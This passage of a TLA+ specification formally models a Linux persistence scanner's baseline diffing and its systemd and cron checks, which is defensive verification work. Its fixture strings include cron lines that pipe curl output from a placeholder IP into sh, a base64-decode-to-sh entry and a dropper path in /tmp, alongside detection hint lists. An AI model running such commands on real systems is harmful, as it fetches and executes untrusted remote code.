    /\ IF json_loads(text).t = "dict"
       THEN /\ old' = from_json(text)
            /\ pc' = "loaded"
       ELSE /\ old' = Nil
            /\ pc' = "from_json_raised"
    /\ findings' = <<>>
    /\ UNCHANGED <<fa, fb, ida, idb, version, base, text, diff, runVars>>

\* diff_baseline(old, findings).  old.findings.keys() raises AttributeError when
\* the loaded "findings" is not a mapping.
Diff ==
    /\ pc = "loaded"
    /\ IF old.findings.t = "dict"
       THEN /\ diff' = diff_baseline(old, findings)
            /\ pc' = "diffed"
       ELSE /\ diff' = Nil
            /\ pc' = "diff_raised"
    /\ UNCHANGED <<fa, fb, ida, idb, findings, version, base, text, old, runVars>>

BaseNext ==
    \/ \E f \in BaselinePool : AddFinding(f)
    \/ \E v \in Versions : MakeBaseline(v)
    \/ DiffSelf
    \/ ToJson
    \/ \E doc \in ExternalDocs : WriteExternal(doc)
    \/ FromJson
    \/ Diff

SpecBaseline == BaseInit /\ [][BaseNext]_vars

----------------------------------------------------------------------------
(* Claims about the baseline engine *)

NoDifference == [added |-> <<>>, removed |-> <<>>, changed |-> <<>>]

\* The stable identifiers of the findings of a list.
IdsOf(fs) == {_stable_id(fs[i]) : i \in 1..Len(fs)}

\* The last finding of a list that has identifier x.
LastWithId(fs, x) ==
    fs[CHOOSE i \in 1..Len(fs) :
            /\ _stable_id(fs[i]) = x
            /\ \A k \in (i + 1)..Len(fs) : _stable_id(fs[k]) # x]

\* The place of identifier x among the identifiers S in ascending order.
Rank(x, S) == 1 + Cardinality({y \in S : StrLess(y, x)})

\* C1: diff_baseline(make_baseline(F, v), F) reports nothing added, removed or
\* changed, for every list F (findings sharing an identifier included) and every v.
C1_DiffIdempotent ==
    pc = "diffed_self" => diff = NoDifference

C1_Witness ==
    /\ pc = "diffed_self"
    /\ Len(findings) = 2
    /\ _stable_id(findings[1]) = _stable_id(findings[2])
    /\ findings[1].severity # findings[2].severity
    /\ diff = NoDifference

\* C5: Baseline.from_json(b.to_json()) has the version and the findings of b, for
\* every baseline b that make_baseline built.
C5_RoundTrip ==
    (pc \in {"loaded", "diffed"} /\ base # Nil) =>
        /\ old.version = base.version
        /\ old.findings = base.findings

C5_Witness ==
    /\ pc = "loaded"
    /\ base # Nil
    /\ Cardinality(DOMAIN base.findings.v) = 2
    /\ \E x \in DOMAIN base.findings.v :
          /\ base.findings.v[x].v.remediation = PyNone
          /\ base.findings.v[x].v.references.v # <<>>
    /\ \E x \in DOMAIN base.findings.v :
          \E k \in 1..Len(base.findings.v[x].v.evidence.v) :
              base.findings.v[x].v.evidence.v[k].v.value.t = "int"
    /\ old = base

\* C6: from_json succeeds on every JSON object; an absent 'version' gives
\* "unknown", an absent 'findings' gives the empty mapping, and a field that is
\* present is taken as it is.
C6_LenientFromJson ==
    /\ pc = "from_json_raised" => text.j # "object"
    /\ (pc \in {"loaded", "diffed", "diff_raised"}) =>
          /\ text.j = "object"
          /\ IF "version" \in DOMAIN text.v
             THEN json_dumps(old.version) = text.v["version"]
             ELSE old.version = [t |-> "str", v |-> "unknown"]
          /\ IF "findings" \in DOMAIN text.v
             THEN json_dumps(old.findings) = text.v["findings"]
             ELSE old.findings = [t |-> "dict", v |-> <<>>]

C6_Witness ==
    /\ pc = "loaded"
    /\ text = [j |-> "object", v |-> <<>>]
    /\ old = [version |-> [t |-> "str", v |-> "unknown"],
              findings |-> [t |-> "dict", v |-> <<>>]]

\* C7: 'added' holds the serialized new finding of every identifier in the new run
\* and not in old, 'removed' the entry old stores under every identifier not in the
\* new run, one element per identifier, in ascending order of identifier.
C7_AddedRemoved ==
    pc = "diffed" =>
        LET old_ids == DOMAIN old.findings.v
            new_ids == IdsOf(findings)
            A == new_ids \ old_ids
            R == old_ids \ new_ids
        IN  /\ Len(diff.added) = Cardinality(A)
            /\ \A x \in A :
                  diff.added[Rank(x, A)] = to_dict(LastWithId(findings, x))
            /\ Len(diff.removed) = Cardinality(R)
            /\ \A x \in R :
                  diff.removed[Rank(x, R)] = old.findings.v[x]

C7_Witness ==
    /\ pc = "diffed"
    /\ base = Nil
    /\ Len(diff.added) = 2
    /\ Len(diff.removed) = 2
    /\ diff.removed[1] = json_loads(StaleEntry)
    /\ diff.removed[2] = json_loads(ExtendedEntry)

\* Whether two serialized findings differ in field k (a field one of them lacks
\* differs from any value but None).
FieldDiffers(o, n, k) ==
    LET ov == IF k \in DOMAIN o.v THEN o.v[k] ELSE [t |-> "None"]
        nv == IF k \in DOMAIN n.v THEN n.v[k] ELSE [t |-> "None"]
    IN  ov # nv

\* C8: 'changed' has a record {id, old, new} exactly for the identifiers in both
\* the old baseline and the new run whose old and new serialized findings differ in
\* severity or description, in ascending order of identifier; a finding whose
\* severity goes from info to medium with one more evidence entry gives one changed
\* record and nothing added or removed.
C8_Changed ==
    pc = "diffed" =>
        LET old_ids == DOMAIN old.findings.v
            new_ids == IdsOf(findings)
            S == {x \in old_ids \cap new_ids :
                     \/ FieldDiffers(old.findings.v[x], to_dict(LastWithId(findings, x)), "severity")
                     \/ FieldDiffers(old.findings.v[x], to_dict(LastWithId(findings, x)), "description")}
        IN  /\ Len(diff.changed) = Cardinality(S)
            /\ \A x \in S :
                  diff.changed[Rank(x, S)] =
                      [id |-> x, old |-> old.findings.v[x],
                       new |-> to_dict(LastWithId(findings, x))]
            /\ (/\ base # Nil
                /\ base.findings.v = (_stable_id(CronFinding) :> to_dict(CronFinding))
                /\ findings = <<CronFindingFlagged>>)
                  => /\ Len(diff.changed) = 1
                     /\ diff.added = <<>>
                     /\ diff.removed = <<>>

C8_Witness ==
    /\ pc = "diffed"
    /\ base # Nil
    /\ base.findings.v = (_stable_id(CronFinding) :> to_dict(CronFinding))
    /\ findings = <<CronFindingFlagged>>
    /\ diff.changed = <<[id |-> _stable_id(CronFinding),
                         old |-> to_dict(CronFinding),
                         new |-> to_dict(CronFindingFlagged)]>>

\* C9: the keys of make_baseline(F, v).findings are exactly the stable identifiers
\* of the findings of F, the value under each key is the serialized form of the
\* last finding of F with that identifier, and the version is v.
C9_BaselineInvariant ==
    pc = "built" =>
        /\ DOMAIN base.findings.v = IdsOf(findings)
        /\ \A x \in IdsOf(findings) :
              base.findings.v[x] = to_dict(LastWithId(findings, x))
        /\ base.version = [t |-> "str", v |-> version]

C9_Witness ==
    /\ pc = "built"
    /\ Len(findings) = 2
    /\ _stable_id(findings[1]) = _stable_id(findings[2])
    /\ to_dict(findings[1]) # to_dict(findings[2])
    /\ base.findings.v = (_stable_id(findings[2]) :> to_dict(findings[2]))

----------------------------------------------------------------------------
(* Strings: Python's own answers on the strings the hosts hold *)

\* Every string the hosts below hold: paths, ExecStart values and lines of text.
KnownStrings ==
    {"{ path=/usr/bin/backup ; argv[]=/usr/bin/backup --daily ; ignore_errors=no }",
     "{ path=/tmp/.u/agent ; argv[]=/tmp/.u/agent ; ignore_errors=no }",
     "{ path=/bin/sh ; argv[]=/bin/sh -c /home/u/.cache/sync.sh ; ignore_errors=no }",
     "{ path=/usr/sbin/rsyslogd ; argv[]=/usr/sbin/rsyslogd -n -iNONE ; ignore_errors=no }",
     "/etc/systemd/system/backup.service",
     "/lib/systemd/system/rsyslog.service",
     "/home/u/.config/systemd/user/sync.service",
     "/etc/systemd/system/rsyslog.service.d/override.conf",
     "/etc/crontab",
     "/etc/cron.d/fetch",
     "/var/spool/cron/crontabs/u",
     "/home/u/.bashrc",
     "/home/u/.profile",
     "/home/u/.config/autostart/updater.desktop",
     "/etc/xdg/autostart/print-applet.desktop",
     "/usr/sbin/cron",
     "/tmp/x",
     "/home/u/.local/bin/agent",
     "/dev/shm/.k",
     "/usr/bin/backup",
     "/tmp/.u/agent",
     "/bin/sh",
     "/usr/sbin/rsyslogd",
     "/home/u/.config/autostart/notes.txt",
     "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
     "*/5 * * * * root curl -s HTTP://198.51.100.7/x | sh",
     "@reboot /tmp/.u/agent",
     "0 3 * * * echo aGk= | base64 -d | sh",
     "alias ll='ls -l'",
     "curl -s https://198.51.100.7/i | bash -c 'cat'",
     "export PATH=$HOME/.local/bin:$PATH",
     "[Desktop Entry]",
     "Name=Updater",
     "Exec=/tmp/.u/agent --quiet",
     "Exec=/usr/bin/print-applet",
     "Comment=see ~/.config/print",
     "*/5 * * * * root curl -s http://198.51.100.7/x | sh",
     "0 3 * * * echo agk= | base64 -d | sh",
     "export path=$home/.local/bin:$path",
     "[desktop entry]",
     "name=updater",
     "exec=/tmp/.u/agent --quiet",
     "exec=/usr/bin/print-applet",
     "comment=see ~/.config/print"}

\* The pairs <<needle, s>> with `needle in s`, over the heuristics' needles and KnownStrings.
InTable ==
    {<<"path=", "{ path=/usr/bin/backup ; argv[]=/usr/bin/backup --daily ; ignore_errors=no }">>,
     <<"/.", "{ path=/tmp/.u/agent ; argv[]=/tmp/.u/agent ; ignore_errors=no }">>,
     <<"/tmp/", "{ path=/tmp/.u/agent ; argv[]=/tmp/.u/agent ; ignore_errors=no }">>,
     <<"path=", "{ path=/tmp/.u/agent ; argv[]=/tmp/.u/agent ; ignore_errors=no }">>,
     <<"/.", "{ path=/bin/sh ; argv[]=/bin/sh -c /home/u/.cache/sync.sh ; ignore_errors=no }">>,
     <<"/.cache/", "{ path=/bin/sh ; argv[]=/bin/sh -c /home/u/.cache/sync.sh ; ignore_errors=no }">>,
     <<"path=", "{ path=/bin/sh ; argv[]=/bin/sh -c /home/u/.cache/sync.sh ; ignore_errors=no }">>,
     <<"sh -c", "{ path=/bin/sh ; argv[]=/bin/sh -c /home/u/.cache/sync.sh ; ignore_errors=no }">>,
     <<"path=", "{ path=/usr/sbin/rsyslogd ; argv[]=/usr/sbin/rsyslogd -n -iNONE ; ignore_errors=no }">>,
     <<"/etc/systemd/system/", "/etc/systemd/system/backup.service">>,
     <<"/lib/systemd/system/", "/lib/systemd/system/rsyslog.service">>,
     <<"/.", "/home/u/.config/systemd/user/sync.service">>,
     <<"/.config/systemd/user/", "/home/u/.config/systemd/user/sync.service">>,
     <<"/etc/systemd/system/", "/etc/systemd/system/rsyslog.service.d/override.conf">>,
     <<"/.", "/home/u/.bashrc">>,
     <<"/.", "/home/u/.profile">>,
     <<"/.", "/home/u/.config/autostart/updater.desktop">>,
     <<"/tmp/", "/tmp/x">>,
     <<"/.", "/home/u/.local/bin/agent">>,
     <<"/.", "/dev/shm/.k">>,
     <<"/dev/shm/", "/dev/shm/.k">>,
     <<"/.", "/tmp/.u/agent">>,
     <<"/tmp/", "/tmp/.u/agent">>,
     <<"/.", "/home/u/.config/autostart/notes.txt">>,
     <<"curl ", "*/5 * * * * root curl -s HTTP://198.51.100.7/x | sh">>,
     <<"/.", "@reboot /tmp/.u/agent">>,
     <<"/tmp/", "@reboot /tmp/.u/agent">>,
     <<"base64", "0 3 * * * echo aGk= | base64 -d | sh">>,
     <<"bash -c", "curl -s https://198.51.100.7/i | bash -c 'cat'">>,
     <<"curl ", "curl -s https://198.51.100.7/i | bash -c 'cat'">>,
     <<"https://", "curl -s https://198.51.100.7/i | bash -c 'cat'">>,
     <<"sh -c", "curl -s https://198.51.100.7/i | bash -c 'cat'">>,
     <<"/.", "export PATH=$HOME/.local/bin:$PATH">>,
     <<"/.", "Exec=/tmp/.u/agent --quiet">>,
     <<"/tmp/", "Exec=/tmp/.u/agent --quiet">>,
     <<"/.", "Comment=see ~/.config/print">>,
     <<"curl ", "*/5 * * * * root curl -s http://198.51.100.7/x | sh">>,
     <<"http://", "*/5 * * * * root curl -s http://198.51.100.7/x | sh">>,
     <<"base64", "0 3 * * * echo agk= | base64 -d | sh">>,
     <<"/.", "export path=$home/.local/bin:$path">>,
     <<"path=", "export path=$home/.local/bin:$path">>,
     <<"/.", "exec=/tmp/.u/agent --quiet">>,
     <<"/tmp/", "exec=/tmp/.u/agent --quiet">>,
     <<"/.", "comment=see ~/.config/print">>}

\* needle in s
In(needle, s) ==
    CASE s \in KnownStrings -> <<needle, s>> \in InTable

\* The pairs <<prefix, s>> with s.strip().startswith(prefix).
StartsWithTable ==
    {<<"/", "/etc/systemd/system/backup.service">>,
     <<"/", "/lib/systemd/system/rsyslog.service">>,
     <<"/", "/home/u/.config/systemd/user/sync.service">>,
     <<"/home/u", "/home/u/.config/systemd/user/sync.service">>,
     <<"/", "/etc/systemd/system/rsyslog.service.d/override.conf">>,
     <<"/", "/etc/crontab">>,
     <<"/", "/etc/cron.d/fetch">>,
     <<"/", "/var/spool/cron/crontabs/u">>,
     <<"/", "/home/u/.bashrc">>,
     <<"/home/u", "/home/u/.bashrc">>,
     <<"/", "/home/u/.profile">>,
     <<"/home/u", "/home/u/.profile">>,
     <<"/", "/home/u/.config/autostart/updater.desktop">>,
     <<"/home/u", "/home/u/.config/autostart/updater.desktop">>,
     <<"/", "/etc/xdg/autostart/print-applet.desktop">>,
     <<"/", "/usr/sbin/cron">>,
     <<"/tmp/", "/tmp/x">>,
     <<"/", "/tmp/x">>,
     <<"/", "/home/u/.local/bin/agent">>,
     <<"/home/u", "/home/u/.local/bin/agent">>,
     <<"/dev/shm/", "/dev/shm/.k">>,
     <<"/", "/dev/shm/.k">>,
     <<"/", "/usr/bin/backup">>,
     <<"/tmp/", "/tmp/.u/agent">>,
     <<"/", "/tmp/.u/agent">>,
     <<"/", "/bin/sh">>,
     <<"/", "/usr/sbin/rsyslogd">>,
     <<"/", "/home/u/.config/autostart/notes.txt">>,
     <<"/home/u", "/home/u/.config/autostart/notes.txt">>,
     <<"exec=", "exec=/tmp/.u/agent --quiet">>,
     <<"exec=", "exec=/usr/bin/print-applet">>}

\* s.startswith(prefix)
StartsWith(s, prefix) ==
    CASE s \in KnownStrings -> <<prefix, s>> \in StartsWithTable

\* s.lower()
Lower(s) ==
    CASE s = "17 * * * * root cd / && run-parts --report /etc/cron.hourly" ->
             "17 * * * * root cd / && run-parts --report /etc/cron.hourly"
      [] s = "*/5 * * * * root curl -s HTTP://198.51.100.7/x | sh" ->
             "*/5 * * * * root curl -s http://198.51.100.7/x | sh"
      [] s = "@reboot /tmp/.u/agent" ->
             "@reboot /tmp/.u/agent"
      [] s = "0 3 * * * echo aGk= | base64 -d | sh" ->
             "0 3 * * * echo agk= | base64 -d | sh"
      [] s = "alias ll='ls -l'" ->
             "alias ll='ls -l'"
      [] s = "curl -s https://198.51.100.7/i | bash -c 'cat'" ->
             "curl -s https://198.51.100.7/i | bash -c 'cat'"
      [] s = "export PATH=$HOME/.local/bin:$PATH" ->
             "export path=$home/.local/bin:$path"
      [] s = "[Desktop Entry]" ->
             "[desktop entry]"
      [] s = "Name=Updater" ->
             "name=updater"
      [] s = "Exec=/tmp/.u/agent --quiet" ->
             "exec=/tmp/.u/agent --quiet"
      [] s = "Exec=/usr/bin/print-applet" ->
             "exec=/usr/bin/print-applet"
      [] s = "Comment=see ~/.config/print" ->
             "comment=see ~/.config/print"

\* _extract_exec_path(execstart_raw): the path, or None.
_extract_exec_path(execstart_raw) ==
    CASE execstart_raw = "{ path=/usr/bin/backup ; argv[]=/usr/bin/backup --daily ; ignore_errors=no }" ->
             PyStr("/usr/bin/backup")
      [] execstart_raw = "{ path=/tmp/.u/agent ; argv[]=/tmp/.u/agent ; ignore_errors=no }" ->
             PyStr("/tmp/.u/agent")
      [] execstart_raw = "{ path=/bin/sh ; argv[]=/bin/sh -c /home/u/.cache/sync.sh ; ignore_errors=no }" ->
             PyStr("/bin/sh")
      [] execstart_raw = "{ path=/usr/sbin/rsyslogd ; argv[]=/usr/sbin/rsyslogd -n -iNONE ; ignore_errors=no }" ->
             PyStr("/usr/sbin/rsyslogd")

\* The pairs <<suffix, s>> with s ending in suffix (what glob('*.desktop') matches).
EndsWithTable ==
    {<<".desktop", "/home/u/.config/autostart/updater.desktop">>,
     <<".desktop", "/etc/xdg/autostart/print-applet.desktop">>}

EndsWith(s, suffix) ==
    CASE s \in KnownStrings -> <<suffix, s>> \in EndsWithTable

\* Path(p).name
PathName(p) ==
    CASE p = "/etc/systemd/system/backup.service" -> "backup.service"
      [] p = "/lib/systemd/system/rsyslog.service" -> "rsyslog.service"
      [] p = "/home/u/.config/systemd/user/sync.service" -> "sync.service"
      [] p = "/etc/systemd/system/rsyslog.service.d/override.conf" -> "override.conf"
      [] p = "/etc/crontab" -> "crontab"
      [] p = "/etc/cron.d/fetch" -> "fetch"
      [] p = "/var/spool/cron/crontabs/u" -> "u"
      [] p = "/home/u/.bashrc" -> ".bashrc"
      [] p = "/home/u/.profile" -> ".profile"
      [] p = "/home/u/.config/autostart/updater.desktop" -> "updater.desktop"
      [] p = "/etc/xdg/autostart/print-applet.desktop" -> "print-applet.desktop"
      [] p = "/usr/sbin/cron" -> "cron"
      [] p = "/tmp/x" -> "x"
      [] p = "/home/u/.local/bin/agent" -> "agent"
      [] p = "/dev/shm/.k" -> ".k"
      [] p = "/usr/bin/backup" -> "backup"
      [] p = "/tmp/.u/agent" -> "agent"
      [] p = "/bin/sh" -> "sh"
      [] p = "/usr/sbin/rsyslogd" -> "rsyslogd"
      [] p = "/home/u/.config/autostart/notes.txt" -> "notes.txt"

\* The unit names of the hosts, in Python's string order.
NameOrder == <<"backup.service", "ghost.service", "rsyslog.service", "sync.service", "syslog.service">>

\* sorted(S) on a set of unit names
sorted_names(S) == SelectSeq(NameOrder, LAMBDA n : n \in S)

\* "\n".join(lines)
RECURSIVE JoinLines(_)
JoinLines(lines) ==
    IF lines = <<>> THEN ""
    ELSE IF Len(lines) = 1 THEN lines[1]
    ELSE lines[1] \o "\n" \o JoinLines(Tail(lines))

\* xs[:n]
Take(xs, n) == SubSeq(xs, 1, IF Len(xs) < n THEN Len(xs) ELSE n)

\* needle in text, for a text held as its lines and a needle without a line break
InText(needle, lines) == \E i \in 1..Len(lines) : In(needle, lines[i])

\* text.lower()
LowerText(lines) == [i \in 1..Len(lines) |-> Lower(lines[i])]

\* The first hint, in table order, that the text holds: what a loop over the hints
\* that breaks at its first match finds.  0 when none matches.
FirstHint(hints, lines) ==
    IF \E i \in 1..Len(hints) : InText(hints[i], lines)
    THEN CHOOSE i \in 1..Len(hints) :
            /\ InText(hints[i], lines)
            /\ \A k \in 1..(i - 1) : ~InText(hints[k], lines)
    ELSE 0

----------------------------------------------------------------------------
(* llp/core/utils.py *)

\* What can happen to an external command: it runs to its end, it fails (a non-zero
\* return code and nothing printed), it exceeds the timeout, its executable is
\* not installed.
CmdOutcomes == {"ok", "nonzero", "timeout", "missing"}

\* run_cmd: subprocess.run(cmd, timeout=timeout, check=False).  proc is what the
\* command returns and prints when it runs to its end.  subprocess.run raises
\* TimeoutExpired on a timeout and FileNotFoundError on a missing executable, and
\* run_cmd catches neither.
run_cmd(how, proc) ==
    CASE how = "ok" -> [raised |-> "none", rc |-> proc.rc, out |-> proc.out]
      [] how = "nonzero" -> [raised |-> "none", rc |-> 1, out |-> ""]
      [] how = "timeout" -> [raised |-> "TimeoutExpired"]
      [] how = "missing" -> [raised |-> "FileNotFoundError"]

\* A text read_text returned, as its lines.
Text(lines) == [t |-> "text", lines |-> lines]

\* read_text: the text of a small readable file, None on error or oversize.
read_text(h, path) == IF path \in DOMAIN h.text THEN Text(h.text[path]) ELSE PyNone

\* rank = {"info": 0, "low": 1, "medium": 2, "high": 3}
rank(s) ==
    CASE s = "info" -> 0
      [] s = "low" -> 1
      [] s = "medium" -> 2
      [] s = "high" -> 3

\* The severity of the first flag, whatever the others are.
MaxSeverity_first(flags) == flags[1][1]

\* max((s for s, _ in flags), key=lambda s: rank[s]): the first flag severity of
\* the highest rank.
MaxSeverity(flags) ==
    flags[CHOOSE i \in 1..Len(flags) :
            /\ \A k \in 1..Len(flags) : rank(flags[k][1]) <= rank(flags[i][1])
            /\ \A k \in 1..(i - 1) : rank(flags[k][1]) < rank(flags[i][1])][1]

\* [r for _, r in flags]
Reasons(flags) == PyList([i \in 1..Len(flags) |-> PyStr(flags[i][2])])

----------------------------------------------------------------------------
(* llp/checks/systemd.py *)

SUSPICIOUS_PATH_HINTS == <<"/tmp/", "/dev/shm/", "/var/tmp/", "/run/user/", "/.cache/", "/.local/share/">>

LOCAL_UNIT_DIR_HINTS == <<"/etc/systemd/system/", "/run/systemd/system/">>

UnitInfo(name, scope, enabled_state, unit_file, exec_start, drop_in_paths) ==
    [name |-> name, scope |-> scope, enabled_state |-> enabled_state,
     unit_file |-> unit_file, exec_start |-> exec_start, drop_in_paths |-> drop_in_paths]

\* _parse_kv: out is the output's lines, each already split at its first "=" (a
\* line without "=" is a 1-tuple); a later line overrides an earlier one.
RECURSIVE _parse_kv(_)
_parse_kv(out) ==
    IF out = <<>> THEN <<>>
    ELSE LET line == out[Len(out)]
             kv == _parse_kv(SubSeq(out, 1, Len(out) - 1))
         IN  IF Len(line) = 2 THEN DictSet(kv, line[1], line[2]) ELSE kv

\* _list_units: the sorted unit names, [] on a non-zero return code.
_list_units(h, how, scope) ==
    LET r == run_cmd(how["list-unit-files"], [rc |-> 0, out |-> h.unit_files[scope]])
    IN  IF r.raised # "none" THEN [raised |-> r.raised]
        ELSE [raised |-> "none",
              value |-> IF r.rc = 0
                        THEN sorted_names({r.out[i][1] : i \in 1..Len(r.out)})
                        ELSE <<>>]

\* _enabled_state: what is-enabled printed, whatever its return code.
_enabled_state(h, how, name, scope) ==
    LET r == run_cmd(how["is-enabled"], h.is_enabled[name])
    IN  IF r.raised # "none" THEN [raised |-> r.raised]
        ELSE [raised |-> "none", value |-> IF r.out # "" THEN r.out ELSE "unknown"]

\* _unit_props
_unit_props(h, how, name, scope) ==
    LET r == run_cmd(how["show"], [rc |-> 0, out |-> h.show[name]])
    IN  IF r.raised # "none" THEN [raised |-> r.raised]
        ELSE [raised |-> "none", value |-> IF r.rc = 0 THEN _parse_kv(r.out) ELSE <<>>]

\* props.get(k, "")
PropsGet(props, k) == IF k \in DOMAIN props THEN props[k] ELSE ""

\* _dropins: the paths of DropInPaths (h.split gives v.split()) that exist.
_dropins(h, props) ==
    SelectSeq(h.split[PropsGet(props, "DropInPaths")], LAMBDA p : p \in h.exists)

_heuristics(u) ==
    LET enabled == u.enabled_state = "enabled"
        user_enabled ==
            IF u.scope = "user" /\ enabled
            THEN << <<"low", "Enabled user-level service">> >> ELSE <<>>
        drop_ins ==
            IF u.drop_in_paths # <<>>
            THEN << <<"low", "Service has drop-in override snippets">> >> ELSE <<>>
        unit_file ==
            IF u.unit_file # PyNone
            THEN LET p == u.unit_file.v
                 IN  (IF (\E i \in 1..Len(LOCAL_UNIT_DIR_HINTS) : In(LOCAL_UNIT_DIR_HINTS[i], p))
                         /\ enabled
                      THEN << <<"medium", "Enabled unit from local override directory">> >>
                      ELSE <<>>)
                     \o (IF u.scope = "user" /\ In("/.config/systemd/user/", p) /\ enabled
                         THEN << <<"medium", "Enabled unit in user config directory">> >>
                         ELSE <<>>)
            ELSE << <<"info", "FragmentPath unavailable">> >>
        exec_start ==
            IF u.exec_start # PyNone
            THEN LET exec_path == _extract_exec_path(u.exec_start.v)
                     hint == FirstHint(SUSPICIOUS_PATH_HINTS, <<u.exec_start.v>>)
                 IN  (IF hint # 0
                      THEN << <<"medium", "ExecStart references risky path: "
                                            \o SUSPICIOUS_PATH_HINTS[hint]>> >>
                      ELSE <<>>)
                     \o (IF exec_path # PyNone
                            /\ (StartsWith(exec_path.v, "/tmp/") \/ StartsWith(exec_path.v, "/dev/shm/"))
                         THEN << <<"high", "Executable path in temp or memory-backed directory">> >>
                         ELSE <<>>)
            ELSE <<>>
    IN  user_enabled \o drop_ins \o unit_file \o exec_start

\* The body of run's inner loop for one unit: the findings it appends (one or
\* none), or the exception a command raised.
SystemdUnit(h, how, name, scope) ==
    LET props == _unit_props(h, how, name, scope)
    IN  IF props.raised # "none" THEN [raised |-> props.raised]
        ELSE
        LET fragment == PropsGet(props.value, "FragmentPath")
            unit_file == IF fragment # "" /\ fragment \in h.exists THEN PyStr(fragment) ELSE PyNone
            exec_start == IF PropsGet(props.value, "ExecStart") # ""
                          THEN PyStr(PropsGet(props.value, "ExecStart")) ELSE PyNone
            drop_in_paths == _dropins(h, props.value)
            enabled_state == _enabled_state(h, how, name, scope)
        IN  IF enabled_state.raised # "none" THEN [raised |-> enabled_state.raised]
            ELSE
            LET u == UnitInfo(name, scope, enabled_state.value, unit_file, exec_start, drop_in_paths)
                flags == _heuristics(u)
                txt == IF unit_file # PyNone THEN read_text(h, unit_file.v) ELSE PyNone
                evidence ==
                    <<Evidence("systemctl", "unit", PyStr(u.name)),
                      Evidence("systemctl", "scope", PyStr(u.scope)),
                      Evidence("systemctl", "enabled_state", PyStr(u.enabled_state)),
                      Evidence("heuristics", "flags", Reasons(flags))>>
                    \o (IF unit_file # PyNone
                        THEN <<Evidence("systemctl", "FragmentPath", unit_file)>>
                             \o (IF txt # PyNone /\ txt.lines # <<>>
                                 THEN <<Evidence("filesystem", "unit_file_snippet",
                                                 PyStr(JoinLines(Take(txt.lines, 40))))>>
                                 ELSE <<>>)
                        ELSE <<>>)
                    \o (IF exec_start # PyNone
                        THEN <<Evidence("systemctl", "ExecStart", exec_start)>>
                        ELSE <<>>)
            IN  [raised |-> "none",
                 findings |->
                    IF flags = <<>> THEN <<>>
                    ELSE <<Finding("systemd.units",
                                   "Review systemd service: " \o u.name \o " (" \o u.scope \o ")",
                                   MaxSeverity(flags),
                                   "Heuristic indicators suggest review. This is not a determination of compromise.",
                                   evidence,
                                   PyStr("Verify service origin, overrides, and ExecStart paths. Disable if unexpected."),
                                   <<>>)>>]

\* for name in _list_units(scope)
RECURSIVE SystemdUnits(_, _, _, _, _)
SystemdUnits(h, how, names, scope, acc) ==
    IF names = <<>> THEN [raised |-> "none", findings |-> acc]
    ELSE LET r == SystemdUnit(h, how, Head(names), scope)
         IN  IF r.raised # "none" THEN r
             ELSE SystemdUnits(h, how, Tail(names), scope, acc \o r.findings)

\* for scope in ("system", "user")
RECURSIVE SystemdScopes(_, _, _, _)
SystemdScopes(h, how, scopes, acc) ==
    IF scopes = <<>> THEN [raised |-> "none", findings |-> acc]
    ELSE LET names == _list_units(h, how, Head(scopes))
         IN  IF names.raised # "none" THEN [raised |-> names.raised]
             ELSE LET r == SystemdUnits(h, how, names.value, Head(scopes), acc)
                  IN  IF r.raised # "none" THEN r
                      ELSE SystemdScopes(h, how, Tail(scopes), r.findings)

\* systemd.run: its findings, or the exception that leaves it.
systemd_run(h, how) == SystemdScopes(h, how, <<"system", "user">>, <<>>)

----------------------------------------------------------------------------
(* llp/checks/cron.py *)

SYSTEM_CRON_LOCATIONS ==
    <<"/etc/crontab", "/etc/cron.d", "/etc/cron.daily", "/etc/cron.hourly",
      "/etc/cron.weekly", "/etc/cron.monthly">>

USER_CRON_SPOOL_DIRS == <<"/var/spool/cron/crontabs", "/var/spool/cron">>

CronArtifact(kind, path, owner) == [kind |-> kind, path |-> path, owner |-> owner]

\* _path_owner: the owner's name, the uid when `id` fails, None when stat or
\* run_cmd raises (the try/except catches every Exception).
_path_owner(h, how, path) ==
    IF path \notin DOMAIN h.stat THEN PyNone
    ELSE LET uid == h.stat[path]
             r == run_cmd(how, h.id_name[uid])
         IN  IF r.raised # "none" THEN PyNone
             ELSE IF r.rc = 0 /\ r.out # "" THEN PyStr(r.out)
             ELSE PyStr(ToString(uid))

\* sorted(p.glob("*")), the files among them.
ChildFiles(h, dir) ==
    SelectSeq(IF dir \in DOMAIN h.children THEN h.children[dir] ELSE <<>>,
              LAMBDA c : c \in h.is_file)

RECURSIVE _collect_system_artifacts(_, _, _)
_collect_system_artifacts(h, how, locations) ==
    IF locations = <<>> THEN <<>>
    ELSE LET p == Head(locations)
             children == ChildFiles(h, p)
         IN  (IF p \in h.is_file
              THEN <<CronArtifact("file", p, _path_owner(h, how, p))>>
              ELSE IF p \in h.is_dir
              THEN [i \in 1..Len(children) |->
                       CronArtifact("dir_entry", children[i], _path_owner(h, how, children[i]))]
              ELSE <<>>)
             \o _collect_system_artifacts(h, how, Tail(locations))

RECURSIVE _collect_user_spool_artifacts(_, _, _)
_collect_user_spool_artifacts(h, how, dirs) ==
    IF dirs = <<>> THEN <<>>
    ELSE LET d == Head(dirs)
             children == ChildFiles(h, d)
         IN  (IF d \notin h.exists \/ d \notin h.is_dir THEN <<>>
              ELSE [i \in 1..Len(children) |->
                       CronArtifact("user_spool", children[i], _path_owner(h, how, children[i]))])
             \o _collect_user_spool_artifacts(h, how, Tail(dirs))

_looks_suspicious(lines) ==
    LET lowered == LowerText(lines)
        hint == FirstHint(SUSPICIOUS_PATH_HINTS, lines)
    IN  (IF InText("http://", lowered) \/ InText("https://", lowered)
         THEN << <<"medium", "Cron content includes URL(s); review for unexpected network retrieval.">> >>
         ELSE <<>>)
        \o (IF hint # 0
            THEN << <<"medium", "Cron references potentially risky location: "
                                  \o SUSPICIOUS_PATH_HINTS[hint]>> >>
            ELSE <<>>)
        \o (IF InText("base64", lowered)
            THEN << <<"low", "Cron content references 'base64'; verify intent and source.">> >>
            ELSE <<>>)
        \o (IF InText("/.", lines)
            THEN << <<"low", "Cron references hidden path(s) (dot-files/dirs); verify intent.">> >>
            ELSE <<>>)

_severity_from(flags) == IF flags # <<>> THEN MaxSeverity(flags) ELSE "info"

\* The body of run's loop for one artifact: the findings it appends (one or none).
CronArtifactFindings(h, a) ==
    LET content == read_text(h, a.path)
    IN  IF content = PyNone
        THEN <<Finding("cron.artifacts",
                       "Review cron artifact (unreadable/large): " \o a.path,
                       "info",
                       "Cron artifact exists but could not be read (permission, binary, or too large).",
                       <<Evidence("filesystem", "path", PyStr(a.path)),
                         Evidence("filesystem", "kind", PyStr(a.kind)),
                         Evidence("filesystem", "owner", a.owner)>>,
                       PyStr("Verify permissions and inspect the file contents using appropriate privileges."),
                       <<>>)>>
        ELSE
